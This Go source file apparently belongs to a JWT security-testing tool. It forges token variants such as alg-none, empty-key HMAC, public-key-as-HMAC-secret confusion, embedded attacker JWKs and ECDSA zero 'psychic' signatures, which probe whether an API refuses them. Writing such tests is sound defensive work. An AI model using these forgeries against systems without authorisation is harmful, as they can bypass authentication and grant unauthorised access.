// Package forge makes the negative variants of a valid token that jwtkit
// probe sends and jwtkit forge prints: each changes one property (the alg,
// the signature, the key, a claim) and keeps everything else. It is built
// on pkg/token's serialisation and signer and on pkg/keys' canonical JWK;
// the deliberately broken HMAC variants (an empty key, a public key's bytes
// as the secret) use golang-jwt's HMAC directly, because the core refuses
// to sign with such keys.
package forge

import (
	"bytes"
	"crypto"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"strings"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/jwtkit/jwtkit/internal/human"
	"github.com/jwtkit/jwtkit/internal/strictjson"
	"github.com/jwtkit/jwtkit/pkg/keys"
	"github.com/jwtkit/jwtkit/pkg/token"
)

// ErrForge is wrapped by every error of the forging functions.
var ErrForge = errors.New("cannot forge variant")

// Forged is one forged variant of a valid token: the compact token and a
// short label saying which single property was changed. The label never
// holds key material.
type Forged struct {
	// ID is "<check-id>/<variant>", exactly as probe's JSON report names
	// the request (requests[].variant) and as `jwtkit forge --variant`
	// takes it; every ID is listed by Variants.
	ID    string
	Label string
	Token string
}

// Forger makes the forged variants pkg/probe sends: each changes one
// property of a valid token and keeps everything else. It splits the token
// leniently (it is the caller's own token) and verifies nothing. A Forger is
// safe for concurrent use.
type Forger struct {
	header     map[string]any
	claims     map[string]any
	headerSeg  string
	payloadSeg string
	sig        []byte
}

// NewForger splits raw (a compact JWS with a JSON object payload, an
// optional "Bearer " prefix) with the core's strict parser; it verifies
// nothing.
func NewForger(raw string) (*Forger, error) {
	tok, err := token.ParseJWS(token.Clean(raw))
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrForge, err)
	}
	if tok.Claims == nil {
		return nil, fmt.Errorf("%w: the payload is not a JSON object", ErrForge)
	}
	headerSeg, payloadSeg, _ := strings.Cut(tok.SigningInput, ".")
	return &Forger{header: tok.Header, claims: tok.Claims, headerSeg: headerSeg, payloadSeg: payloadSeg, sig: tok.Signature}, nil
}

// Alg is the valid token's alg.
func (f *Forger) Alg() string { s, _ := f.header["alg"].(string); return s }

// Header returns a copy of the valid token's header.
func (f *Forger) Header() map[string]any { return cloneMap(f.header) }

// Claims returns a copy of the valid token's claims.
func (f *Forger) Claims() map[string]any { return cloneMap(f.claims) }

// cloneMap deep-copies a decoded JSON object by a round trip through the
// same encoder and reader jwtkit uses for tokens.
func cloneMap(m map[string]any) map[string]any {
	b, err := token.MarshalJSON(m)
	if err != nil {
		return map[string]any{}
	}
	c, err := strictjson.Object(string(b), token.MaxJSONDepth+1)
	if err != nil {
		return map[string]any{}
	}
	return c
}

// encodeSeg is a JSON object as a base64url token segment.
func encodeSeg(m map[string]any) string {
	b, _ := token.MarshalJSON(m) // maps of JSON-decoded values always encode
	return base64.RawURLEncoding.EncodeToString(b)
}

// withHeader returns the header segment with the changes applied (nil
// deletes a member).
func (f *Forger) withHeader(changes map[string]any) string {
	return encodeSeg(f.withHeaderMap(changes))
}

// withHeaderMap is a copy of the header with the changes applied.
func (f *Forger) withHeaderMap(changes map[string]any) map[string]any {
	h := cloneMap(f.header)
	for k, v := range changes {
		if v == nil {
			delete(h, k)
		} else {
			h[k] = v
		}
	}
	return h
}

// TamperedPayload changes the payload without changing who the caller is
// and keeps the original signature: accepted only when the signature is
// never checked. It moves iat (else exp, else nbf) one second earlier, or
// adds a claim when the token has none of them: an API that authorises by
// sub would refuse a changed sub with 403 and hide the missing check.
func (f *Forger) TamperedPayload() Forged {
	c := cloneMap(f.claims)
	label := "claim jwtkit_probe added, original signature kept"
	for _, name := range []string{"iat", "exp", "nbf"} {
		if n, ok := numeric(c[name]); ok {
			c[name] = json.Number(fmt.Sprint(n - 1))
			label = name + " moved one second earlier, original signature kept"
			break
		}
	}
	if _, ok := c["jwtkit_probe"]; !ok && label[:5] == "claim" {
		c["jwtkit_probe"] = "tampered"
	}
	return Forged{ID: "jwt.tampered-payload/claim", Label: label, Token: f.headerSeg + "." + encodeSeg(c) + "." + base64.RawURLEncoding.EncodeToString(f.sig)}
}

// BadSignature flips bits in the first and last signature bytes (a broken
// signature of the right length).
func (f *Forger) BadSignature() Forged {
	s := bytes.Clone(f.sig)
	if len(s) == 0 {
		s = []byte("jwtkit-probe-bad-signature")
	} else {
		s[0] ^= 0x5a
		s[len(s)-1] ^= 0xa5
	}
	return Forged{ID: "jwt.bad-signature/flipped-bits", Label: "signature bytes altered", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(s)}
}

// NullSignature drops the signature and keeps the original alg
// ("header.payload."), the CVE-2020-28042 class.
func (f *Forger) NullSignature() Forged {
	return Forged{ID: "jwt.null-signature/empty", Label: fmt.Sprintf("empty signature, alg %q kept", f.Alg()), Token: f.headerSeg + "." + f.payloadSeg + "."}
}

// NoneCasings lists every casing of "none" (16 spellings), lower case first.
func NoneCasings() []string {
	out := make([]string, 0, 16)
	for i := range 16 {
		b := []byte("none")
		for j := range 4 {
			if i&(1<<j) != 0 {
				b[j] -= 'a' - 'A'
			}
		}
		out = append(out, string(b))
	}
	return out
}

// AlgNone returns the unsecured variants: alg set to every casing of
// "none" with an empty signature and the trailing dot, plus "none" keeping
// the original signature and "none" without a third segment.
func (f *Forger) AlgNone() []Forged {
	var out []Forged
	for _, n := range NoneCasings() {
		out = append(out, Forged{ID: "jwt.alg-none/" + n, Label: fmt.Sprintf("alg %q, empty signature", n), Token: f.withHeader(map[string]any{"alg": n}) + "." + f.payloadSeg + "."})
	}
	h := f.withHeader(map[string]any{"alg": "none"})
	out = append(out,
		Forged{ID: "jwt.alg-none/none-original-signature", Label: `alg "none", original signature kept`, Token: h + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(f.sig)},
		Forged{ID: "jwt.alg-none/none-two-segments", Label: `alg "none", no signature segment`, Token: h + "." + f.payloadSeg},
	)
	return out
}

// BlankHMAC re-signs the token with HS256, HS384 and HS512 and an empty key
// (CVE-2019-20933 class).
func (f *Forger) BlankHMAC() []Forged {
	var out []Forged
	for _, alg := range hmacAlgs() {
		out = append(out, f.hmacVariant("jwt.blank-hmac/"+alg, alg, nil, nil, fmt.Sprintf("%s with an empty key", alg)))
	}
	return out
}

func (f *Forger) hmacVariant(id, alg string, key []byte, extra map[string]any, label string) Forged {
	changes := map[string]any{"alg": alg}
	for k, v := range extra {
		changes[k] = v
	}
	input := f.withHeader(changes) + "." + f.payloadSeg
	// Any key, empty included: these variants exist to be refused.
	sig, err := jwt.GetSigningMethod(alg).Sign(input, append([]byte{}, key...))
	if err != nil { // HS256/384/512 with a []byte key cannot fail
		panic(fmt.Sprintf("forge: %s: %v", alg, err))
	}
	return Forged{ID: id, Label: label, Token: input + "." + base64.RawURLEncoding.EncodeToString(sig)}
}

// KeyEncoding is one serialisation of a public key tried as an HMAC secret.
type KeyEncoding struct {
	Slug  string // the variant-id part: "spki-pem", "key-file-crlf", ...
	Name  string
	Bytes []byte
}

// PublicKeyEncodings serialises pub the ways servers commonly hold it: SPKI
// PEM with and without the trailing newline, PKCS#1 PEM (RSA only), SPKI
// DER and JWK JSON (RFC 7638 member order).
func PublicKeyEncodings(pub crypto.PublicKey) ([]KeyEncoding, error) {
	der, err := x509.MarshalPKIXPublicKey(pub)
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrForge, err)
	}
	spki := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	out := []KeyEncoding{
		{"spki-pem", "SPKI PEM", spki},
		{"spki-pem-no-newline", "SPKI PEM without trailing newline", bytes.TrimSuffix(spki, []byte("\n"))},
	}
	if rk, ok := pub.(*rsa.PublicKey); ok {
		out = append(out, KeyEncoding{"pkcs1-pem", "PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rk)})})
	}
	out = append(out, KeyEncoding{"spki-der", "SPKI DER", der})
	k, err := keys.NewPublic(pub, "public key")
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrForge, err)
	}
	jb, err := k.CanonicalJWK()
	if err != nil {
		return nil, fmt.Errorf("%w: %w", ErrForge, err)
	}
	out = append(out, KeyEncoding{"jwk", "JWK JSON", jb})
	return out, nil
}

// KeyConfusion re-signs the token with HMAC using the asymmetric public key
// as the secret (RFC 8725 §2.1, CVE-2016-10555): HS256 with every encoding
// of PublicKeyEncodings, and HS384 and HS512 with the SPKI PEM.
func (f *Forger) KeyConfusion(pub crypto.PublicKey) ([]Forged, error) {
	return f.keyConfusion(pub, "", "the public key")
}

// KeyConfusionJWKS is KeyConfusion with a key from the JWKS the API
// publishes (ids "jwt.key-confusion/jwks-...").
func (f *Forger) KeyConfusionJWKS(pub crypto.PublicKey) ([]Forged, error) {
	return f.keyConfusion(pub, "jwks-", "the published JWKS key")
}

func (f *Forger) keyConfusion(pub crypto.PublicKey, prefix, what string) ([]Forged, error) {
	encs, err := PublicKeyEncodings(pub)
	if err != nil {
		return nil, err
	}
	var out []Forged
	for _, e := range encs {
		out = append(out, f.hmacVariant("jwt.key-confusion/"+prefix+"HS256-"+e.Slug, "HS256", e.Bytes, nil, "HS256 keyed with "+what+" as "+e.Name))
	}
	for _, alg := range hmacAlgs()[1:] {
		out = append(out, f.hmacVariant("jwt.key-confusion/"+prefix+alg+"-spki-pem", alg, encs[0].Bytes, nil, alg+" keyed with "+what+" as SPKI PEM"))
	}
	return out, nil
}

// KeyFileEncodings are the bytes of a public key file as a server may read
// them from disk: exactly as given, without the trailing newline, with CRLF
// line ends, and the raw DER of its PEM block (none for a file that is not
// PEM).
func KeyFileEncodings(file []byte) []KeyEncoding {
	trimmed := bytes.TrimRight(file, "\r\n")
	lf := bytes.ReplaceAll(file, []byte("\r\n"), []byte("\n"))
	out := []KeyEncoding{
		{"key-file", "the exact bytes of the key file", file},
		{"key-file-no-newline", "the key file without its trailing newline", trimmed},
		{"key-file-crlf", "the key file with CRLF line ends", bytes.ReplaceAll(lf, []byte("\n"), []byte("\r\n"))},
	}
	if b, _ := pem.Decode(file); b != nil {
		out = append(out, KeyEncoding{"key-file-der", "the raw DER of the key file", b.Bytes})
	}
	return out
}

// KeyFileConfusion re-signs the token with HS256 keyed with the bytes of
// the public key file the caller gave (KeyFileEncodings): a server that
// reads its verification key from disk holds exactly these.
func (f *Forger) KeyFileConfusion(file []byte) []Forged {
	var out []Forged
	for _, e := range KeyFileEncodings(file) {
		out = append(out, f.hmacVariant("jwt.key-confusion/HS256-"+e.Slug, "HS256", e.Bytes, nil, "HS256 keyed with "+e.Name))
	}
	return out
}

// EmbeddedJWK signs the token with a fresh key and puts that key's public
// half in the jwk header (CVE-2018-0114). The fresh key matches the token's
// alg family: RSA for RS*/PS* (and for HMAC tokens, as RS256), the same
// curve for ES*, Ed25519 for EdDSA.
func (f *Forger) EmbeddedJWK() (Forged, error) {
	fresh, alg, err := freshKey(f.Alg())
	if err != nil {
		return Forged{}, err
	}
	jb, err := fresh.CanonicalJWK()
	if err != nil {
		return Forged{}, fmt.Errorf("%w: %w", ErrForge, err)
	}
	jwk, err := strictjson.Object(string(jb), 2)
	if err != nil {
		return Forged{}, fmt.Errorf("%w: %w", ErrForge, err)
	}
	tok, err := f.sign(fresh, alg, f.withHeaderMap(map[string]any{"alg": alg, "jwk": jwk}), f.claims)
	if err != nil {
		return Forged{}, err
	}
	return Forged{ID: "jwt.embedded-jwk/fresh-key", Label: alg + " signed with a fresh key embedded in the jwk header", Token: tok}, nil
}

// freshKey generates an attacker key of the token alg's family: RSA for
// RS*/PS* (and for HMAC and unknown algs, as RS256), the same curve for
// ES*, Ed25519 for EdDSA. It returns the alg to sign with.
func freshKey(alg string) (*keys.Key, string, error) {
	if !strings.HasPrefix(alg, "ES") && !strings.HasPrefix(alg, "RS") && !strings.HasPrefix(alg, "PS") && alg != "EdDSA" {
		alg = "RS256" // HMAC and unknown algs: the classic embedded RSA key
	}
	fresh, err := keys.Generate(alg, keys.GenerateOptions{})
	if err != nil && strings.HasPrefix(alg, "ES") { // an unknown ES* alg
		alg = "ES256"
		fresh, err = keys.Generate(alg, keys.GenerateOptions{})
	} else if err != nil {
		alg = "RS256"
		fresh, err = keys.Generate(alg, keys.GenerateOptions{})
	}
	if err != nil {
		return nil, "", fmt.Errorf("%w: generating a fresh key: %w", ErrForge, err)
	}
	return fresh, alg, nil
}

// esAlgs are the ECDSA algs of keys' alg table, in its order.
func esAlgs() []keys.Alg {
	var out []keys.Alg
	for _, a := range keys.Algs() {
		if a.Family == keys.FamilyECDSA {
			out = append(out, a)
		}
	}
	return out
}

// PsychicSignature returns ECDSA variants with r = s = 0 (CVE-2022-21449):
// ES256, ES384 and ES512 with an all-zero JOSE signature, and the token's
// own alg with the DER form (MAYCAQACAQA). It returns nil for tokens that
// are not ES*.
func (f *Forger) PsychicSignature() []Forged {
	alg := f.Alg()
	if !strings.HasPrefix(alg, "ES") {
		return nil
	}
	var out []Forged
	for _, a := range esAlgs() {
		out = append(out, Forged{ID: "jwt.psychic-signature/" + a.Name + "-zero", Label: a.Name + " with r = s = 0", Token: f.withHeader(map[string]any{"alg": a.Name}) + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(make([]byte, a.SignatureSize()))})
	}
	der := []byte{0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}
	out = append(out, Forged{ID: "jwt.psychic-signature/der-zero", Label: alg + " with r = s = 0 in DER form", Token: f.headerSeg + "." + f.payloadSeg + "." + base64.RawURLEncoding.EncodeToString(der)})
	return out
}

// Remint signs the token's claims again with the real key and the token's
// header after refreshing the time claims it has (iat and nbf to now, exp
// to now plus the token's original lifetime, 15 minutes when unknown) and
// then applying edit. It is the base of the claim-changing variants.
func (f *Forger) Remint(key *keys.Key, now time.Time, id, label string, edit func(claims map[string]any)) (Forged, error) {
	c := f.refreshed(now)
	if edit != nil {
		edit(c)
	}
	tok, err := f.sign(key, f.Alg(), f.header, c)
	if err != nil {
		return Forged{}, err
	}
	return Forged{ID: id, Label: label, Token: tok}, nil
}

func (f *Forger) refreshed(now time.Time) map[string]any {
	c := cloneMap(f.claims)
	ttl := 15 * time.Minute
	exp, okE := numeric(c["exp"])
	iat, okI := numeric(c["iat"])
	if okE && okI && exp > iat {
		ttl = time.Duration(exp-iat) * time.Second
	}
	n := now.Unix()
	if _, ok := c["iat"]; ok {
		c["iat"] = json.Number(fmt.Sprint(n))
	}
	if _, ok := c["nbf"]; ok {
		c["nbf"] = json.Number(fmt.Sprint(n))
	}
	if _, ok := c["exp"]; ok {
		c["exp"] = json.Number(fmt.Sprint(n + int64(ttl/time.Second)))
	}
	return c
}

func numeric(v any) (int64, bool) {
	n, ok := v.(json.Number)
	if !ok {
		return 0, false
	}
	if i, err := n.Int64(); err == nil {
		return i, true
	}
	fl, err := n.Float64()
	return int64(fl), err == nil
}

func unix(t time.Time) json.Number { return json.Number(fmt.Sprint(t.Unix())) }

// ExpiredAges are the ages of the expired variants, the leeway sub-probe
// of jwt.expired: 30 s and 5 min measure the leeway, 1 h and 1 day an
// expiry that is not checked at all.
func ExpiredAges() []time.Duration {
	return []time.Duration{30 * time.Second, 5 * time.Minute, time.Hour, 24 * time.Hour}
}

// ExpiredBy re-signs the token with exp age in the past, keeping the
// token's lifetime before it (iat and nbf moved back with exp).
func (f *Forger) ExpiredBy(key *keys.Key, now time.Time, age time.Duration) (Forged, error) {
	ttl := time.Hour
	if e, okE := numeric(f.claims["exp"]); okE {
		if i, okI := numeric(f.claims["iat"]); okI && e > i {
			ttl = time.Duration(e-i) * time.Second
		}
	}
	exp := now.Add(-age)
	label := fmt.Sprintf("exp %s ago", human.Exact(age))
	return f.Remint(key, now, "jwt.expired/"+human.Exact(age), label, func(c map[string]any) {
		c["exp"] = unix(exp)
		if _, ok := c["iat"]; ok {
			c["iat"] = unix(exp.Add(-ttl))
		}
		if _, ok := c["nbf"]; ok {
			c["nbf"] = unix(exp.Add(-ttl))
		}
	})
}

// NotYetValid re-signs the token with nbf an hour in the future and exp
// moved past it by the token's lifetime.
func (f *Forger) NotYetValid(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "jwt.nbf-future/1h", "nbf one hour ahead", func(c map[string]any) {
		c["nbf"] = unix(now.Add(time.Hour))
		if e, ok := numeric(c["exp"]); ok {
			c["exp"] = json.Number(fmt.Sprint(e + 3600))
		}
	})
}

// WithoutExp re-signs the token without exp.
func (f *Forger) WithoutExp(key *keys.Key, now time.Time) (Forged, error) {
	return f.Remint(key, now, "jwt.no-exp/removed", "exp removed", func(c map[string]any) { delete(c, "exp") })
}

// ForeignIssuer is the iss the wrong-issuer variant carries.
const ForeignIssuer = "https://evil.example"

// ForeignAudience is the aud the wrong-audience variant carries.
const ForeignAudience = "https://other-service.example"

// WrongIssuer re-signs the token with iss set to ForeignIssuer and, when the
// token has an iss, a second variant without it.
func (f *Forger) WrongIssuer(key *keys.Key, now time.Time) ([]Forged, error) {
	return f.replaceOrRemove(key, now, "jwt.wrong-issuer/", "iss", ForeignIssuer)
}

// WrongAudience re-signs the token with aud set to ForeignAudience and, when
// the token has an aud, a second variant without it.
func (f *Forger) WrongAudience(key *keys.Key, now time.Time) ([]Forged, error) {
	return f.replaceOrRemove(key, now, "jwt.wrong-audience/", "aud", ForeignAudience)
}

func (f *Forger) replaceOrRemove(key *keys.Key, now time.Time, prefix, name, foreign string) ([]Forged, error) {
	v, err := f.Remint(key, now, prefix+"foreign", fmt.Sprintf("%s %q", name, foreign), func(c map[string]any) { c[name] = foreign })
	if err != nil {
		return nil, err
	}
	out := []Forged{v}
	if _, ok := f.claims[name]; ok {
		v, err := f.Remint(key, now, prefix+"removed", name+" removed", func(c map[string]any) { delete(c, name) })
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}

// WithoutRoles re-signs the token with roles taken out of the (dotted)
// rolesClaim ("roles" when empty); the claim is removed when nothing is
// left in it.
func (f *Forger) WithoutRoles(key *keys.Key, now time.Time, rolesClaim string, roles []string) (Forged, error) {
	if rolesClaim == "" {
		rolesClaim = "roles"
	}
	label := fmt.Sprintf("%s without %s", rolesClaim, strings.Join(roles, ", "))
	return f.Remint(key, now, "authz.insufficient-role/without-roles", label, func(c map[string]any) {
		v, ok, err := token.LookupClaim(c, rolesClaim)
		if !ok {
			return
		}
		_, flat := c[rolesClaim]
		flat = flat && err == nil                                   // the literal member is what an app reads
		set := func(v any) { _ = token.SetClaim(c, rolesClaim, v) } // the path exists: it was just read
		del := func() { token.DeleteClaim(c, rolesClaim) }
		if flat {
			set = func(v any) { c[rolesClaim] = v }
			del = func() { delete(c, rolesClaim) }
		}
		drop := map[string]bool{}
		for _, r := range roles {
			drop[r] = true
		}
		var left any
		switch cur := v.(type) {
		case []any:
			var keep []any
			for _, r := range cur {
				if s, ok := r.(string); !ok || !drop[s] {
					keep = append(keep, r)
				}
			}
			if len(keep) > 0 {
				left = keep
			}
		case string:
			var keep []string
			for _, r := range token.SplitScope(cur) {
				if !drop[r] {
					keep = append(keep, r)
				}
			}
			if len(keep) > 0 {
				left = strings.Join(keep, " ")
			}
		default:
			return
		}
		if left == nil {
			del()
		} else {
			set(left)
		}
	})
}

// sign signs claims under header with the real key through the core's
// SignJWS, which checks that alg fits the key.
func (f *Forger) sign(key *keys.Key, alg string, header, claims map[string]any) (string, error) {
	if key == nil {
		return "", fmt.Errorf("%w: no signing key", ErrForge)
	}
	hj, err := token.MarshalJSON(header)
	if err != nil {
		return "", fmt.Errorf("%w: header: %w", ErrForge, err)
	}
	pj, err := token.MarshalJSON(claims)
	if err != nil {
		return "", fmt.Errorf("%w: claims: %w", ErrForge, err)
	}
	tok, err := token.SignJWS(key, alg, hj, pj)
	if err != nil {
		return "", fmt.Errorf("%w: %w", ErrForge, err)
	}
	return tok, nil
}

// hmacAlgs are the HMAC algs of keys' alg table, HS256 first.
func hmacAlgs() []string {
	var out []string
	for _, a := range keys.Algs() {
		if a.Family == keys.FamilyHMAC {
			out = append(out, a.Name)
		}
	}
	return out
}

// ClaimTypes re-signs the token with claims of the types real apps trip
// over (resp.server-error sends them): a numeric scope, an array sub, an
// exp of 10^20 and the roles claim (rolesClaim, "roles" when empty) nested
// in an array. A server error on any of them is a crash, not a refusal.
func (f *Forger) ClaimTypes(key *keys.Key, now time.Time, rolesClaim string) ([]Forged, error) {
	if rolesClaim == "" {
		rolesClaim = "roles"
	}
	edits := []struct {
		slug, label string
		edit        func(c map[string]any)
	}{
		{"scope-number", "claim types: scope is a number", func(c map[string]any) { c["scope"] = json.Number("1") }},
		{"sub-array", "claim types: sub is an array", func(c map[string]any) {
			sub, _ := c["sub"].(string)
			c["sub"] = []any{sub}
		}},
		{"exp-huge", "claim types: exp is 10^20", func(c map[string]any) { c["exp"] = json.Number("100000000000000000000") }},
		{"roles-nested", "claim types: " + rolesClaim + " is a nested array", func(c map[string]any) {
			v, ok, _ := token.LookupClaim(c, rolesClaim)
			if !ok {
				v = []any{"admin"}
			}
			_ = token.SetClaim(c, rolesClaim, []any{v})
		}},
	}
	out := make([]Forged, 0, len(edits))
	for _, e := range edits {
		v, err := f.Remint(key, now, "resp.server-error/"+e.slug, e.label, e.edit)
		if err != nil {
			return nil, err
		}
		out = append(out, v)
	}
	return out, nil
}
